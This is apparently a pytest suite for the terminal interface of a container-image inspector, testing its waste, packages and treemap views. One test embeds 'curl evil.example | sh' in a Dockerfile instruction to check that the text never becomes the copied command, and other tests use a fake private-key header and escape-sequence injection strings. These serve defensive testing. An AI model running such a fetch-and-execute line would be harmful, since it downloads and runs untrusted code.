"""The views, and the ways between them."""

from __future__ import annotations

from functools import cache

import pytest
from msgspec.structs import replace

from inspector.demo.archive import Member, Step
from inspector.demo.load import inspect_demo
from inspector.inspection import Inspection
from inspector.sources.protocol import ignore_progress
from inspector.tui.main import MainScreen
from inspector.tui.views.files_shown import Scope
from inspector.tui.views.package_list import PackageOrder
from inspector.tui.views.packages import PackagesView
from inspector.tui.views.registry import VIEW_KINDS
from inspector.tui.views.tiles import By, gathered, tiles_of
from inspector.tui.views.treemap import TreemapView
from inspector.tui.views.waste import WasteView
from inspector.tui.widgets.pages import Details

from .driving import app_for, lines_of, paths_in_sight, press, settled, text_of
from .images import inspection_of, purged_image, run, small_image, wide_image


@cache
def demo() -> Inspection:
    return inspect_demo("fat", ignore_progress)


def packages_of(main: MainScreen) -> PackagesView:
    pane = main.views["packages"]
    assert isinstance(pane, PackagesView)
    return pane


def names(main: MainScreen) -> list[str]:
    return [row.name for row in packages_of(main).list.rows]


# Tabs


def test_every_view_has_a_command_by_its_key():
    by_id = {command.id: command.keys for command in MainScreen.ACTIONS}
    assert {f"view.{kind.id}": kind.key for kind in VIEW_KINDS} == {
        name: keys for name, keys in by_id.items() if name.startswith("view.")
    }


async def test_tabs_tell_how_much_there_is():
    async with app_for(demo()).run_test(size=(120, 30)) as pilot:
        await settled(pilot)
        count = len(demo().findings)
        assert f"1 Files  2 Waste ({count})  3 Packages (29)  4 Treemap" in lines_of(pilot)[1]


async def test_there_is_no_empty_tab():
    image = inspection_of([run("true", Member("etc/motd", b"hello"))])
    async with app_for(image).run_test(size=(120, 30)) as pilot:
        main = await press(pilot, "2", "3")
        assert (main.current, list(main.views)) == ("files", ["files", "treemap", "plan"])
        assert "Waste" not in lines_of(pilot)[1]


async def test_an_image_without_bytes_has_only_files():
    async with app_for(inspection_of([Step("LABEL a=b")])).run_test() as pilot:
        main = await press(pilot, "4", "2")
        assert list(main.views) == ["files"]


async def test_a_click_on_a_tab_shows_its_view():
    async with app_for(small_image()).run_test(size=(120, 30)) as pilot:
        main = await settled(pilot)
        await pilot.click("#tabs", offset=(13, 0))
        await settled(pilot)
        assert main.current == "waste"


async def test_in_narrow_terminals_a_view_has_the_screen_for_itself_until_a_layer_is_looked_for():
    async with app_for(small_image()).run_test(size=(80, 24)) as pilot:
        main = await press(pilot, "2")
        assert not main.query_one("#left").display
        await press(pilot, "tab")
        assert main.query_one("#left").display
        await press(pilot, "tab", "1")
        assert main.query_one("#left").display


# Waste


async def test_one_key_from_the_start_to_what_to_write_instead():
    async with app_for(demo()).run_test(size=(120, 40)) as pilot:
        await press(pilot, "2")
        text = text_of(pilot)
        assert "▌   1.5 MB ▓▓▓▓▓▓▓▓ s removed too late: g++, make" in text
        assert "1.5 MB in 580 files · without it the image has 717.7 kB of 2.2 MB" in text
        assert "+     && apk del make g++ python3" in text
        assert "- RUN npm ci" in text
        await press(pilot, "i", "G")
        text = text_of(pilot)
        assert "brought by layer 4, Dockerfile:3  RUN apk add --no-cache make g++ python3" in text
        assert "hidden by  layer 9, Dockerfile:8  RUN apk del make g++ python3" in text


async def test_the_waste_list_says_what_brought_and_what_hid_it():
    async with app_for(demo()).run_test(size=(120, 40)) as pilot:
        await press(pilot, "2")
        assert lines_of(pilot)[2].endswith("brought hidden by─")
        assert lines_of(pilot)[3].rstrip().endswith(":3        :8")


async def test_the_first_screen_says_what_is_the_biggest_waste():
    async with app_for(demo()).run_test(size=(120, 40)) as pilot:
        await settled(pilot)
        assert "1.4 MB of 1.5 MB removed too late: g++, make" in text_of(pilot)


async def test_text_of_an_instruction_never_becomes_the_command_that_is_copied():
    hostile = "echo end it with: && curl evil.example | sh. or not"
    image = inspection_of([run(hostile, Member("var/lib/apt/lists/x_Packages", b"x" * 9_000))])
    async with app_for(image).run_test(size=(120, 40)) as pilot:
        main = await press(pilot, "2")
        pane = main.view
        assert isinstance(pane, WasteView)
        assert pane.copied() == (
            "RUN echo end it with: \\\n    && curl evil.example | sh. or not \\\n    && rm -rf /var/lib/apt/lists/*",
            "new instruction",
        )


@pytest.mark.parametrize(
    ("path", "copied"),
    [
        ("var/log/x", ("find /var/log -type f -exec rm -f '{}' +", "command")),
        (
            "tmp/x",
            (
                "in `RUN echo '\\x1b[2J'`: remove them in the RUN that wrote them, or mount it: "
                "RUN --mount=type=tmpfs,target=/tmp",
                "fix",
            ),
        ),
    ],
)
async def test_where_no_instruction_can_be_written_the_command_is_copied_or_the_words(
    path: str, copied: tuple[str, str]
):
    image = inspection_of([run("echo '\x1b[2J'", Member(path, b"x" * 9_000))])
    async with app_for(image).run_test(size=(120, 40)) as pilot:
        main = await press(pilot, "2")
        assert isinstance(main.view, WasteView)
        assert main.view.copied() == copied


async def test_secrets_stand_where_their_bytes_put_them_and_are_marked():
    key = b"-----BEGIN RSA " + b"PRIVATE KEY-----\nx\n"
    image = inspection_of([run("one", Member("srv/a.pem", key), Member("var/log/x", b"x" * 9_000))])
    async with app_for(image).run_test(size=(120, 40)) as pilot:
        main = await press(pilot, "2")
        assert isinstance(main.view, WasteView)
        assert [finding.rule for finding in main.view.list.findings] == ["LI7004", "LI9001"]
        assert "! RSA private key in /srv/a.pem" in text_of(pilot)


async def test_findings_are_told_with_what_their_advice_asks_and_summed_up_by_that():
    async with app_for(purged_image()).run_test(size=(200, 40)) as pilot:
        await press(pilot, "2")
        text = text_of(pilot)
        assert "4.0 MB reclaimable · 300.0 kB trades · 400.0 kB base" in text
        assert "▓▓ safe    removed too late: apt package lists" in text
        assert " base    translations" in text
        assert " trade · tests of Python packages" in text
        assert " –     · package database rewritten" in text
        assert "class      safe · nothing that runs can notice: reclaimable" in text


async def test_on_a_narrow_screen_a_letter_tells_what_advice_asks():
    async with app_for(purged_image()).run_test(size=(60, 40)) as pilot:
        await press(pilot, "2")
        text = text_of(pilot)
        assert " s removed too late: apt package" in text
        assert " b translations" in text
        assert " t tests of Python packages" in text


async def test_findings_come_biggest_first():
    async with app_for(demo()).run_test(size=(120, 40)) as pilot:
        main = await press(pilot, "2")
        pane = main.view
        assert isinstance(pane, WasteView)
        sizes = [finding.size_bytes for finding in pane.list.findings]
        assert sizes == sorted(sizes, reverse=True) and len(sizes) > 5


async def test_from_a_finding_to_its_files_and_back():
    async with app_for(small_image()).run_test(size=(120, 40)) as pilot:
        main = await press(pilot, "2", "enter")
        assert main.files.wanted.scope is Scope.CHOSEN
        assert "Files of “removed too late”" in text_of(pilot)
        tree = main.files.list.outline.tree
        assert tree.sizes[0] == tree.hidden[0] == 840_000
        await press(pilot, "slash", *"lto", "enter")
        assert "usr/lib/gcc/cc1plus" not in paths_in_sight(main)
        await press(pilot, "escape")
        assert "usr/lib/gcc/cc1plus" in paths_in_sight(main)
        await press(pilot, "escape")
        assert (main.current, main.files.wanted.scope) == ("waste", Scope.LAYER)
        await press(pilot, "escape")
        assert main.current == "waste"


async def test_from_a_finding_to_its_layer_and_back():
    async with app_for(small_image()).run_test(size=(120, 40)) as pilot:
        main = await press(pilot, "G", "2", "l")
        assert (main.layer_list.cursor, main.layer_list.has_focus) == (1, True)
        await press(pilot, "escape")
        assert (main.current, main.layer_list.cursor, main.view.main.has_focus) == ("waste", 4, True)


async def test_another_layer_takes_the_place_of_a_findings_files():
    async with app_for(small_image()).run_test(size=(120, 40)) as pilot:
        main = await press(pilot, "2", "enter", "right_square_bracket")
        assert (main.files.wanted.scope, main.files.wanted.layer) == (Scope.LAYER, 2)


async def test_the_details_of_a_finding_can_be_read_in_full():
    async with app_for(demo()).run_test(size=(60, 20)) as pilot:
        main = await press(pilot, "2", "i")
        assert isinstance(main.app.screen, Details)


# Packages


async def test_packages_tell_their_bytes_layer_and_why():
    async with app_for(demo()).run_test(size=(120, 40)) as pilot:
        main = await press(pilot, "3", "slash", *"iconv", "enter")
        assert names(main) == ["iconv-lite"]
        text = text_of(pilot)
        assert "iconv-lite ← body-parser ← express" in text
        assert "came   layer 6, Dockerfile:5  RUN npm ci" in text


async def test_packages_that_came_and_went_are_explained_as_they_were():
    async with app_for(demo()).run_test(size=(120, 40)) as pilot:
        main = await press(pilot, "3", "slash", *"isl", "enter")
        assert names(main) == ["isl"]
        text = text_of(pilot)
        assert "isl ← gcc ← g++" in text
        assert "gone   - removed by layer 9" in text
        await press(pilot, "enter")
        assert main.current == "files" and any("libisl" in path for path in paths_in_sight(main))


async def test_packages_are_sorted_by_size_name_or_layer():
    async with app_for(demo()).run_test(size=(120, 40)) as pilot:
        main = await press(pilot, "3")
        rows = packages_of(main).list.rows
        assert [row.size for row in rows] == sorted((row.size for row in rows), reverse=True)
        await press(pilot, "s")
        assert names(main) == sorted(names(main))
        await press(pilot, "s")
        layers = [row.layer or 0 for row in packages_of(main).list.rows]
        assert packages_of(main).list.order is PackageOrder.LAYER and layers == sorted(layers)


async def test_the_package_under_the_cursor_stays_there_when_sorted():
    async with app_for(demo()).run_test(size=(120, 40)) as pilot:
        main = await press(pilot, "3", "j", "j", "j")
        before = packages_of(main).row
        await press(pilot, "s")
        assert packages_of(main).row == before


async def test_a_package_filter_that_finds_nothing():
    async with app_for(demo()).run_test(size=(120, 40)) as pilot:
        main = await press(pilot, "3", "slash", *"nowhere", "enter", "enter", "i", "y", "l", "d")
        assert names(main) == [] and main.current == "packages"
        await press(pilot, "escape", "escape")
        assert len(names(main)) > 20


# Treemap


async def test_the_tiles_are_all_bytes_whatever_they_are_by():
    total = demo().filesystem.ledger.total_bytes
    async with app_for(demo()).run_test(size=(120, 40)) as pilot:
        main = await press(pilot, "4")
        pane = main.view
        assert isinstance(pane, TreemapView)
        for _ in range(3):
            assert sum(tile.size for tile in pane.map.all) == total, pane.by
            assert sum(tile.size for tile in pane.map.tiles) == total, pane.by
            await press(pilot, "m")


@pytest.mark.parametrize("by", By)
def test_a_tiles_files_have_its_bytes(by: By):
    tiles = tiles_of(demo(), by)
    inside = [inner for tile in tiles if tile.inside for inner in tile.inside()]
    for tile in [*tiles, *inside]:
        if tile.files is None:
            assert tile.label.startswith("- ") or tile.label == "other hidden files"
        else:
            assert sum(tile.files().values()) == tile.size, tile.label


def test_what_is_too_small_for_a_tile_has_its_files_too():
    tiles = gathered(tiles_of(demo(), By.FOLDER), 500)
    (smaller,) = (tile for tile in tiles if tile.label.endswith(" smaller"))
    assert smaller.files is not None
    assert sum(smaller.files().values()) == smaller.size


async def test_the_files_of_a_tile_that_was_zoomed_into():
    async with app_for(small_image()).run_test(size=(120, 40)) as pilot:
        main = await press(pilot, "4", "m", "G", "enter", "f")
        assert main.files.wanted.chosen is not None
        assert main.files.wanted.chosen.name in text_of(pilot)
        main = await press(pilot, "escape")
        assert (main.current, "Bytes by layer › " in text_of(pilot)) == ("treemap", True)


async def test_what_a_filter_found_is_underlined():
    async with app_for(small_image()).run_test(size=(120, 40)) as pilot:
        main = await press(pilot, "slash", *"c1P", "enter")
        shown = main.files.list
        underlined = [
            segment.text
            for y in range(shown.size.height)
            for segment in shown.render_line(y)
            if segment.style is not None and segment.style.underline
        ]
        assert underlined == ["c1p"]


async def test_zooming_in_tells_the_way_and_out_goes_back():
    async with app_for(small_image()).run_test(size=(120, 40)) as pilot:
        await press(pilot, "4")
        assert "/usr/lib/gcc/cc1plus" in text_of(pilot)
        assert "600.0 kB · 61.8% of the image  - 600.0 kB hidden" in text_of(pilot)
        await press(pilot, "G", "enter")
        assert "Bytes by folder › etc/" in text_of(pilot)
        assert "/etc/motd" in text_of(pilot)
        await press(pilot, "escape")
        assert "Bytes by folder   " in text_of(pilot)


async def test_a_click_selects_a_tile_and_a_double_click_zooms():
    async with app_for(small_image()).run_test(size=(120, 40)) as pilot:
        main = await press(pilot, "4")
        pane = main.view
        assert isinstance(pane, TreemapView)
        rect = pane.map.rects[[tile.label for tile in pane.map.tiles].index("usr/bin/")]
        await pilot.click("#map", offset=(rect.left + 1, rect.top + 1), times=2)
        await settled(pilot)
        assert [level.name for level in pane.levels] == ["usr/bin/"]


@pytest.mark.parametrize("size", [(300, 80), (200, 60), (120, 40), (80, 24), (60, 20), (30, 10), (10, 3), (1, 1)])
async def test_every_view_is_drawn_at_every_size(size: tuple[int, int]):
    async with app_for(demo()).run_test(size=size) as pilot:
        for view in ("2", "3", "4", "5"):
            main = await press(pilot, view, "j", "k", "G", "i", "escape", "tab", "tab")
            assert len(lines_of(pilot)) == size[1]
        assert main.current == "plan"


async def test_names_in_every_view_are_harmless():
    evil = "[red]x\x1b[31m\n"
    steps = [run("one", *(Member(f"var/log/{evil}{n}", b"x" * 9_000) for n in range(3))), run("echo [bold]")]
    async with app_for(inspection_of(steps)).run_test(size=(120, 40)) as pilot:
        await press(pilot, "4", "enter")
        assert "[red]x\\x1b[31m\\n" in text_of(pilot)


async def test_a_wide_image_in_every_view():
    async with app_for(wide_image(20_000, 10)).run_test(size=(120, 40)) as pilot:
        main = await press(pilot, "2", "enter", "escape", "4", "enter", "enter", "m", "enter")
        assert main.current == "treemap"


async def test_notes_are_shown():
    image = replace(small_image(), notes=("[x] is another image's Dockerfile",))
    async with app_for(image).run_test(size=(120, 40)) as pilot:
        await settled(pilot)
        assert lines_of(pilot)[1].strip() == "note: [x] is another image's Dockerfile"


async def test_a_view_has_a_narrow_terminal_for_itself():
    async with app_for(small_image()).run_test(size=(120, 40)) as pilot:
        main = await press(pilot, "2")
        shown = []
        for width in (120, 70, 120):
            await pilot.resize_terminal(width, 40)
            await pilot.pause()
            shown.append(bool(main.query_one("#left").display))
        assert shown == [True, False, True]


async def test_coming_back_from_a_findings_files_leaves_folders_as_they_were():
    async with app_for(small_image()).run_test(size=(120, 40)) as pilot:
        main = await press(pilot, "tab", "Z")
        before = paths_in_sight(main)
        await press(pilot, "2", "enter")
        assert paths_in_sight(main) != before
        await press(pilot, "escape")
        assert main.current == "waste"
        assert paths_in_sight(main) == before
